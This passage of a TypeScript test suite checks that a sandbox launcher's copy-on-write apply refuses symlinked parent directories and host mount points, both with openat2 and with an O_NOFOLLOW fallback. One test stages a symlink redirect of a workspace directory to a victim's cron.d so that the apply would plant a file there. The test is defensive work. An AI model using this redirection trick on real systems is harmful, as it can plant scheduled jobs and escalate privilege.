   * The apply opens every name with openat2(RESOLVE_*); where openat2 is refused with ENOSYS (an older
   * kernel; a seccomp filter such as the presets', which cannot read its mode) it falls back to openat
   * with O_NOFOLLOW and a mount-root check. The upper layer comes from a real run (cow: 'keep'); the
   * launcher then applies it itself, once plainly and once under the preload door with the workspace
   * preset, whose filter answers openat2 with ENOSYS (checked in strace's log).
   */
  function launcherApply(e: Env, upper: string, noOpenat2: boolean) {
    const rel = e.user === 'root' ? path.join(repoRoot, 'build', 'Release') : path.join(unprivPackage(), 'build', 'Release');
    const log = path.join(e.base, `strace-${Math.random().toString(36).slice(2)}.log`);
    const pre = noOpenat2 ? ['-E', `LD_PRELOAD=${preloadCopy(rel)}`, '-E', 'SBX_POLICY=workspace'] : [];
    const argv = ['strace', '-f', '-qq', '-e', 'trace=openat2', '-o', log, ...pre, path.join(rel, 'sbx-launcher'), '--cow-apply', upper, e.ws];
    const r = e.user === 'root' ? spawnSync(argv[0], argv.slice(1), { cwd: e.ws, encoding: 'utf8' }) : runUnpriv(argv[0], argv.slice(1), { cwd: e.ws });
    const trace = fs.readFileSync(log, 'utf8');
    return { status: r.status, stderr: String(r.stderr), lines: String(r.stdout).split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>), trace };
  }
  const hasStrace = spawnSync('strace', ['-V']).status === 0;
  /** libsbx.so where the workspace preset does not let the program write (the preload door refuses /tmp). */
  function preloadCopy(rel: string): string {
    const d = fs.mkdtempSync('/var/tmp/sbx-cowatk-lib-');
    dirs.push(d);
    fs.chmodSync(d, 0o755);
    fs.copyFileSync(path.join(rel, 'libsbx.so'), path.join(d, 'libsbx.so'));
    fs.chmodSync(path.join(d, 'libsbx.so'), 0o755);
    return path.join(d, 'libsbx.so');
  }

  for (const noOpenat2 of [false, true]) {
    const how = noOpenat2 ? 'without openat2 (ENOSYS: O_NOFOLLOW walk)' : 'with openat2';
    t.skipIf(!hasStrace)(`${how}: a symlink in a parent directory is not followed (strace, to see which path ran)`, () => {
      const e = setup(user);
      fs.mkdirSync(path.join(e.ws, 's/u/w'), { recursive: true });
      own(e);
      const k = apiApply(e, 'echo evil > s/u/w/x && echo ok > ok.txt', 'keep');
      expect(k.code).toBe(0);
      dirs.push(path.dirname(k.upper!));
      // The host's s/u/w becomes a symlink to cron.d before the apply.
      fs.rmSync(path.join(e.ws, 's/u/w'), { recursive: true });
      fs.symlinkSync(path.join(e.victim, 'cron.d'), path.join(e.ws, 's/u/w'));
      own(e);
      const r = launcherApply(e, k.upper!, noOpenat2);
      if (noOpenat2) expect(r.trace, r.stderr).toMatch(/openat2\(.*= -1 ENOSYS/);
      else expect(r.trace).not.toMatch(/openat2\(.*= -1 ENOSYS/);
      // Denied: nothing reached cron.d; the apply stopped at s/u/w.
      expect(r.status).toBe(3);
      expect(lst(path.join(e.victim, 'cron.d', 'x'))).toBeUndefined();
      expect(r.lines).toContainEqual({ event: 'abort', hex: B('s/u/w').toString('hex'), reason: expect.stringMatching(/^not what/) });
      // Allowed: what came before it, or after it in the listing, says so.
      const ok = r.lines.find((l) => l.hex === B('ok.txt').toString('hex'))!;
      expect(lst(path.join(e.ws, 'ok.txt')) !== undefined).toBe(ok.applied);
    });

    t.skipIf(!isRoot() || !hasStrace)(`${how}: the apply stops at a mount point under the working directory`, () => {
      const e = setup(user);
      fs.mkdirSync(path.join(e.ws, 'm'));
      own(e);
      const k = apiApply(e, 'echo f > m/f', 'keep');
      expect(k.code).toBe(0);
      dirs.push(path.dirname(k.upper!));
      expect(spawnSync('mount', ['-t', 'tmpfs', 'none', path.join(e.ws, 'm')]).status).toBe(0);
      try {
        if (e.user === 'unpriv') spawnSync('chown', [`${UNPRIV_UID}:${UNPRIV_UID}`, path.join(e.ws, 'm')]);
        const r = launcherApply(e, k.upper!, noOpenat2);
        if (noOpenat2) expect(r.trace, r.stderr).toMatch(/openat2\(.*= -1 ENOSYS/);
        expect(r.status).toBe(3);
        expect(r.lines).toContainEqual({ event: 'abort', hex: B('m').toString('hex'), reason: 'a mount point on the host' });
        expect(r.lines).toContainEqual(expect.objectContaining({ kind: 'created', hex: B('m/f').toString('hex'), applied: false }));
        expect(fs.readdirSync(path.join(e.ws, 'm'))).toEqual([]);
      } finally {
        spawnSync('umount', [path.join(e.ws, 'm')]);
      }
      // The neighbour: without the mount the same upper applies.
      const r2 = launcherApply(e, k.upper!, noOpenat2);
      expect(r2.status).toBe(0);
      expect(read(path.join(e.ws, 'm', 'f'))).toBe('f\n');
    });
  }
});
